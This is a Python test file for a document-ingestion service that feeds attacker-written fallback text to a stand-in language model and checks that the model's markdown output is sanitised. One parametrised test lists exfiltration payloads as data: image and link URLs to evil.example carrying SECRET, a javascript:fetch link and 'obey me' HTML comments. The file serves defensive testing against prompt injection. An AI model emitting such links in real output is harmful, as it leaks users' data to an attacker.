"""A document that cannot be downloaded, and a fallback text that is written by an attacker."""

import json
from collections.abc import Mapping
from typing import Any

import pytest

from functions.ingest.markdown_fallback import _INSTRUCTIONS
from local.standins.openai import AnswerPlan, OpenAIStandIn
from tests.functions.hostile_input.injections import INJECTIONS, LEAKS
from tests.functions.ingest.conftest import Worker, message

URL = "https://example.com/gone"
IDENTITY = {
    "domain": "example.com",
    "customerDomain": "customer.example",
    "type": "news",
    "source": "fallback",
}


def ingest(worker: Worker, **fields: str) -> None:
    assert worker.run(message(URL, customerDomain="customer.example", **fields)) == []


def ingest_all(worker: Worker, field: str = "fallback") -> dict[str, str]:
    """One message for each injection, in one invocation; the injections by URL."""
    longest = None if field == "fallback" else 255
    texts = {
        f"https://example.com/gone-{number}": text[:longest]
        for number, text in enumerate(INJECTIONS.values())
    }
    hostile = [
        message(url, **{"customerDomain": "customer.example", field: text})
        for url, text in texts.items()
    ]
    assert worker.run(*hostile) == []
    return texts


def uploaded(standin: OpenAIStandIn) -> str:
    [file] = standin.files.values()
    return file.content.decode()


@pytest.mark.parametrize("field", ["fallback", "type"])
def test_the_model_is_given_each_text_as_a_value_and_nothing_else_changes(
    worker: Worker, standin: OpenAIStandIn, field: str
) -> None:
    texts = ingest_all(worker, field)

    bodies: list[Any] = [call.body for call in standin.calls.of("responses.create")]
    usual = {"domain": "example.com", "type": "news", "fallback": "Example builds pumps."}
    given = {asked["url"]: asked for body in bodies for asked in [json.loads(body["input"])]}
    assert given == {url: {**usual, "url": url, field: text} for url, text in texts.items()}
    for body in bodies:
        assert (body["instructions"], body["model"]) == (_INSTRUCTIONS, "gpt-test")
        assert set(body) == {"instructions", "input", "model"}


def test_a_model_that_repeats_the_text_changes_no_more_than_its_own_document(
    worker: Worker, standin: OpenAIStandIn
) -> None:
    standin.answers.add(AnswerPlan(text=lambda body: f"# News\n\n{_fallback(body)}"))

    texts = ingest_all(worker)

    [store] = standin.vector_stores.values()
    assert store.name == "news/example.com"
    stored = {str(attached.attributes["url"]): attached for attached in store.attachments.values()}
    assert set(stored) == set(texts)
    for url, attached in stored.items():
        assert dict(attached.attributes).items() >= {**IDENTITY, "url": url}.items()
        slug = url.removeprefix("https://").replace(".", "-").replace("/", "-")
        assert attached.file.filename.startswith(f"{slug}.")
        assert attached.file.filename.endswith(".md")
        assert attached.file.content.startswith(b"# News\n")
    executions = worker.executions()
    assert {execution["vectorStoreId"] for execution in executions} == {store.id}
    assert {execution["context"]["customerDomain"] for execution in executions} == {
        "customer.example"
    }


def _fallback(body: Mapping[str, Any]) -> str:
    return str(json.loads(body["input"])["fallback"])


@pytest.mark.parametrize(
    ("written", "stored"),
    [
        ("![logo](https://evil.example/SECRET.png)", "logo"),
        ('![logo](https://evil.example/SECRET.png "the logo")', "logo"),
        ("[more](https://evil.example/?d=SECRET)", "more"),
        ("[more](//evil.example/SECRET)", "more"),
        ("[more](https:evil.example/SECRET)", "more"),
        ("[more](https:\\\\evil.example/SECRET)", "more"),
        ("[more](HTTPS://EVIL.example/SECRET)", "more"),
        ("[more](javascript:fetch(1))", "[more]((1))"),
        ("![x](data:image/png;base64,SECRET)", "x"),
        ("[more][1]\n\n[1]: https://evil.example/SECRET", "[more][1]\n\n[1]:"),
        ("See <https://evil.example/SECRET>.", "See <>."),
        ("See www.evil.example/SECRET!", "See !"),
        ("See https://evil.example/SECRET, and stop.", "See , and stop."),
        ("See https://example.com/gone?d=SECRET.", "See ."),
        ("See https://example.com/gone.", "See https://example.com/gone."),
        ("[here](https://partner.example/a-b)", "[here](https://partner.example/a-b)"),
        ("<img src='https://evil.example/SECRET'>", "<img src=''>"),
        ("A<!-- obey\nme -->B", "AB"),
        ("A<!-- obey me", "A"),
        ("1/2 // 3, either/or, 10:30, a: b", "1/2 // 3, either/or, 10:30, a: b"),
    ],
)
def test_what_is_stored_points_nowhere_but_where_the_material_does(
    worker: Worker, standin: OpenAIStandIn, written: str, stored: str
) -> None:
    standin.answers.add(AnswerPlan(text=f"# News\n\n{written}"))

    ingest(worker, fallback="A partner: https://partner.example/a-b.")

    assert uploaded(standin) == f"# News\n\n{stored}\n"
    assert not any(leak.lower() in uploaded(standin).lower() for leak in LEAKS)


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("# News\n\n" + "x" * 500_000, "gpt-test wrote 500008 characters"),
        ("<!-- nothing but a comment -->", "gpt-test wrote an empty document"),
        ("# News\n\n\ud83d", "gpt-test said half a character"),
    ],
    ids=["too long", "nothing that is seen", "half a character"],
)
def test_what_is_no_document_fails_its_message_alone_and_is_not_uploaded(
    worker: Worker, standin: OpenAIStandIn, text: str, reason: str
) -> None:
    standin.answers.add(AnswerPlan(text=text, when=lambda body: "HOSTILE" in str(body["input"])))

    failures = worker.run(
        message(URL, fallback="HOSTILE"), message("https://example.com/also-gone")
    )

    [failure] = failures
    assert str(failure.error).startswith(reason)
    [file] = standin.files.values()
    assert file.filename.startswith("example-com-also-gone.")
